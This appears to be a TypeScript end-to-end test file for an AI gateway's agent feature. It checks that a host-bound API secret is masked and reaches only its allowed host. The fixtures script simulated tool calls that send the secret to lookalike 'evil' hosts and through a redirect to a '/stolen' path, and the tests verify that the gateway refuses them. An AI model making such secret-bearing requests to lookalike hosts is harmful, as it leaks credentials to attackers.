// End to end: an intern provisioned against the fake upstream chats over SSE, calls a loopback API
// through `http_request` with a host-bound secret, is refused for lookalike hosts and a cross-host
// redirect, asks first in manual mode; the secret value never appears in the stream, in what the model
// is sent, or in the stored generation content.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { startFakeUpstream, type FakeUpstream } from '../fake-upstreams/fake-upstream.ts'
import pino from 'pino'
import { bearer, startTestGateway, type TestGateway } from '../support/test-gateway.ts'
import { call, createInternVia, mintKey, secretBody } from './intern-test-kit.ts'

const secretValue = 'ghp-5e1f0c-intern-token'
/** Everything the gateway logged, at trace level. */
const logLines: string[] = []
let gateway: TestGateway
let upstream: FakeUpstream
let api: Server
let port: number
let key: string
let internId: string
const arrivals: { host: string; path: string; headers: IncomingHttpHeaders }[] = []

before(async () => {
  api = createServer((request, response) => {
    arrivals.push({ host: request.headers.host ?? '', path: request.url ?? '', headers: request.headers })
    if (request.url === '/hop')
      return void response.writeHead(302, { location: `http://127.0.0.1:${port}/stolen` }).end()
    response
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ login: 'octo', echoed: request.headers.authorization ?? null }))
  })
  await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve))
  port = (api.address() as AddressInfo).port
  upstream = await startFakeUpstream({ api: 'openai-chat' })
  const yaml = [
    'egress:\n  allow_private_networks: true',
    `providers:\n  - { slug: fake, name: Fake, api: openai-chat, base_url: "${upstream.url}", api_key: k }`,
    'models:\n  - slug: test/agent\n    endpoints:\n      - { provider: fake, upstream_model_id: up-agent, max_output_tokens: 1000, pricing: { prompt: "0.000001", completion: "0.000002" } }',
  ].join('\n')
  gateway = await startTestGateway({
    yaml: `${yaml}\n`,
    logger: pino({ level: 'trace' }, { write: (line: string) => void logLines.push(line) }),
  })
  key = await mintKey(gateway, 'inference', gateway.gateway.bootstrap.defaultWorkspaceId)
  const intern = await createInternVia(gateway, key, { name: 'helper', instructions: 'You help with the API.' })
  internId = intern.id
  assert.equal(
    (await call(gateway, key, { method: 'PATCH', url: `/api/v1/interns/${internId}`, body: { model: 'test/agent' } }))
      .status,
    200,
  )
  assert.equal(
    (
      await call(gateway, key, {
        method: 'PUT',
        url: `/api/v1/vault/interns/${internId}/secrets/api_token`,
        body: secretBody(secretValue, ['localhost']),
      })
    ).status,
    200,
  )
  assert.equal((await call(gateway, key, { method: 'POST', url: `/api/v1/interns/${internId}/provision` })).status, 202)
  const deadline = Date.now() + 15_000
  while ((await call(gateway, key, { method: 'GET', url: `/api/v1/interns/${internId}` })).json.status !== 'running') {
    if (Date.now() > deadline) throw new Error('the intern never reached running')
    await new Promise((resolve) => setTimeout(resolve, 25))
  }
})
after(async () => {
  await gateway.close()
  await upstream.close()
  await new Promise((resolve) => api.close(resolve))
})

const httpCall = (id: string, url: string) => ({
  id,
  name: 'http_request',
  arguments: JSON.stringify({ method: 'GET', url, headers: { authorization: 'Bearer {{secret:api_token}}' } }),
})

async function chat(body: Record<string, unknown>) {
  const response = await gateway.inject({
    method: 'POST',
    url: `/api/v1/interns/${internId}/chat/completions`,
    headers: bearer(key),
    payload: body,
  })
  const chunks = response.body
    .split('\n\n')
    .filter((frame) => frame.startsWith('data: ') && frame !== 'data: [DONE]')
    .map((frame) => JSON.parse(frame.slice(6)))
  return { response, chunks, text: chunks.map((chunk) => chunk.choices?.[0]?.delta?.content ?? '').join('') }
}

test('stream: false is refused', async () => {
  const response = await gateway.inject({
    method: 'POST',
    url: `/api/v1/interns/${internId}/chat/completions`,
    headers: bearer(key),
    payload: { messages: [{ role: 'user', content: 'hi' }], stream: false },
  })
  assert.equal(response.statusCode, 400)
  assert.match(response.body, /stream/)
})

test('self-drive: the secret reaches its bound host only; refusals and masked results go back to the model', async () => {
  upstream.script({
    type: 'completion',
    text: '',
    toolCalls: [
      httpCall('call_ok', `http://localhost:${port}/user`),
      httpCall('call_sub', `http://evil.localhost:${port}/`),
      httpCall('call_suffix', `http://localhost.evil:${port}/`),
      httpCall('call_case', `http://LOCALHOST.EVIL.:${port}/`),
      httpCall('call_hop', `http://localhost:${port}/hop`),
    ],
  })
  upstream.script({ type: 'completion', text: 'You are octo.' })
  const sent = upstream.requests.length
  const { response, chunks, text } = await chat({
    messages: [{ role: 'user', content: 'Who am I on the API?' }],
    stream: true,
  })
  assert.equal(response.statusCode, 200)
  assert.match(String(response.headers['content-type']), /text\/event-stream/)
  assert.ok(response.body.trimEnd().endsWith('data: [DONE]'))
  assert.equal(text, 'You are octo.')
  assert.equal(chunks.at(-1)?.choices[0].finish_reason, 'stop')
  assert.ok(typeof chunks[0]?.session_id === 'string')
  assert.equal(response.body.includes(secretValue), false)

  assert.deepEqual(
    arrivals.map((arrival) => [arrival.host, arrival.path]),
    [
      [`localhost:${port}`, '/user'],
      [`localhost:${port}`, '/hop'],
    ],
  )
  assert.ok(arrivals.every((arrival) => arrival.headers.authorization === `Bearer ${secretValue}`))
  const toolTurn = upstream.requests[sent + 1]?.body as {
    messages: { role: string; tool_call_id?: string; content: string }[]
  }
  const results = Object.fromEntries(
    toolTurn.messages
      .filter((message) => message.role === 'tool')
      .map((message) => [message.tool_call_id, message.content]),
  )
  assert.match(results.call_ok ?? '', /\[secret:api_token\]/)
  assert.match(results.call_sub ?? '', /refused.*goes to evil\.localhost/)
  assert.match(results.call_suffix ?? '', /refused.*goes to localhost\.evil/)
  assert.match(results.call_case ?? '', /refused.*goes to localhost\.evil/)
  assert.match(results.call_hop ?? '', /refused.*goes to 127\.0\.0\.1/)
  assert.equal(JSON.stringify(upstream.requests).includes(secretValue), false, 'the model never sees the value')
  assert.equal(toolTurn.messages[0]?.content, 'You help with the API.')
  assert.ok(logLines.length > 0, 'the gateway logged at trace level')
  assert.equal(logLines.join('\n').includes(secretValue), false, 'the value never reaches the logs')
})

test('manual: the intern asks before the call and proceeds after the answer', async () => {
  arrivals.length = 0
  upstream.script({ type: 'completion', text: '', toolCalls: [httpCall('call_m', `http://localhost:${port}/user`)] })
  const asked = await chat({
    messages: [{ role: 'user', content: 'Check my login' }],
    stream: true,
    approval_mode: 'manual',
  })
  const question = asked.chunks.find((chunk) => chunk.choices?.[0]?.delta?.tool_calls !== undefined)?.choices[0].delta
    .tool_calls[0]
  assert.equal(question?.function.name, 'openrouter.provide_input')
  assert.equal(asked.chunks.at(-1)?.choices[0].finish_reason, 'tool_calls')
  assert.equal(arrivals.length, 0, 'nothing is sent before approval')
  upstream.script({ type: 'completion', text: 'Checked.' })
  const sessionId = asked.chunks[0].session_id
  const answered = await chat({
    messages: [{ role: 'tool', tool_call_id: question.id, content: 'yes' }],
    stream: true,
    session_id: sessionId,
    approval_mode: 'manual',
  })
  assert.equal(answered.text, 'Checked.')
  assert.equal(arrivals.length, 1)
  assert.equal(answered.response.body.includes(secretValue), false)
})

test('stored generation content never holds the value', async () => {
  await gateway.drained()
  const rows = await gateway.store.db.selectFrom('generations').select('id').execute()
  assert.ok(rows.length >= 4)
  let masked = 0
  for (const row of rows) {
    const content = await gateway.inject({
      method: 'GET',
      url: `/api/v1/generation/content?id=${row.id}`,
      headers: bearer(gateway.adminKey),
    })
    assert.equal(content.statusCode, 200, content.body)
    assert.equal(content.body.includes(secretValue), false)
    if (content.body.includes('[secret:api_token]')) masked += 1
  }
  assert.ok(masked >= 1, 'the masked tool result is what was stored')
})

test("the chat endpoint is also reachable at the intern's hostname", async () => {
  upstream.script({ type: 'completion', text: 'Hello from my own host.' })
  const intern = (await call(gateway, key, { method: 'GET', url: `/api/v1/interns/${internId}` })).json as {
    hostname: string
  }
  assert.equal(intern.hostname, 'helper.interns.localhost')
  for (const url of ['/v1/chat/completions', '/chat/completions']) {
    if (url === '/chat/completions') upstream.script({ type: 'completion', text: 'Hello from my own host.' })
    const response = await gateway.inject({
      method: 'POST',
      url,
      headers: { ...bearer(key), host: 'HELPER.interns.localhost.:8080' },
      payload: { messages: [{ role: 'user', content: 'hi' }], stream: true },
    })
    assert.equal(response.statusCode, 200, response.body)
    assert.match(response.body, /Hello from my own host\./)
    assert.match(response.body, /data: \[DONE\]/)
  }
  const elsewhere = await gateway.inject({
    method: 'POST',
    url: '/v1/chat/completions',
    headers: { ...bearer(key), host: 'other.interns.localhost' },
    payload: { messages: [{ role: 'user', content: 'hi' }], stream: true },
  })
  assert.equal(elsewhere.statusCode, 404, 'another host keeps the ordinary routes')
})

test("the agent loop offers the gateway's server tools beside http_request and runs them", async () => {
  upstream.script({
    type: 'completion',
    text: '',
    toolCalls: [{ id: 'call_time', name: 'openrouter_datetime', arguments: '{"timezone":"UTC"}' }],
  })
  upstream.script({ type: 'completion', text: 'It is daytime somewhere.' })
  const before = upstream.requests.length
  const { text } = await chat({ messages: [{ role: 'user', content: 'What time is it?' }], stream: true })
  assert.equal(text, 'It is daytime somewhere.')
  const [first, second] = upstream.requests
    .slice(before)
    .map(
      (request) =>
        request.body as { tools: { function: { name: string } }[]; messages: { role: string; content: string }[] },
    )
  const offered = first!.tools.map((tool) => tool.function.name)
  assert.ok(
    offered.includes('http_request') &&
      offered.includes('openrouter_datetime') &&
      offered.includes('openrouter_web_fetch'),
    offered.join(', '),
  )
  const toolMessage = second!.messages.find((message) => message.role === 'tool')
  assert.match(String(toolMessage?.content), /\d{4}-\d{2}-\d{2}/, 'the datetime result went back to the model')

  upstream.script({ type: 'completion', text: 'ok' })
  const manualStart = upstream.requests.length
  await chat({ messages: [{ role: 'user', content: 'hello' }], stream: true, approval_mode: 'manual' })
  const manualTools = (upstream.requests[manualStart]!.body as { tools: { function: { name: string } }[] }).tools.map(
    (tool) => tool.function.name,
  )
  assert.ok(
    !manualTools.includes('openrouter_web_fetch'),
    'manual mode offers no outbound server tool besides http_request',
  )
  assert.ok(manualTools.includes('openrouter_datetime'))
})

test("a change to the runtime key applies from the intern's next turn: disabled is 403, a spent limit an error chunk", async () => {
  const keys = await gateway.inject({
    method: 'GET',
    url: `/api/v1/keys?workspace_id=${gateway.gateway.bootstrap.defaultWorkspaceId}`,
    headers: bearer(gateway.adminKey),
  })
  const runtimeKey = (keys.json() as { data: { hash: string; name: string }[] }).data.find(
    (candidate) => candidate.name === 'Intern runtime key',
  )
  assert.ok(runtimeKey !== undefined, keys.body)
  const patch = (body: Record<string, unknown>) =>
    call(gateway, gateway.adminKey, { method: 'PATCH', url: `/api/v1/keys/${runtimeKey.hash}`, body })
  try {
    assert.equal((await patch({ disabled: true })).status, 200)
    const refused = await chat({ messages: [{ role: 'user', content: 'hello' }], stream: true })
    assert.equal(refused.response.statusCode, 403, refused.response.body)
    assert.match(refused.response.body, /runtime key is disabled/)

    assert.equal((await patch({ disabled: false, limit: 0.000001 })).status, 200)
    const limited = await chat({ messages: [{ role: 'user', content: 'hello' }], stream: true })
    assert.equal(limited.response.statusCode, 200)
    const failure = limited.chunks.find((chunk) => chunk.error !== undefined)
    assert.equal(failure?.error.code, 402, limited.response.body)
    assert.equal(failure?.choices[0].finish_reason, 'error')
  } finally {
    await patch({ disabled: false, limit: null })
  }
})
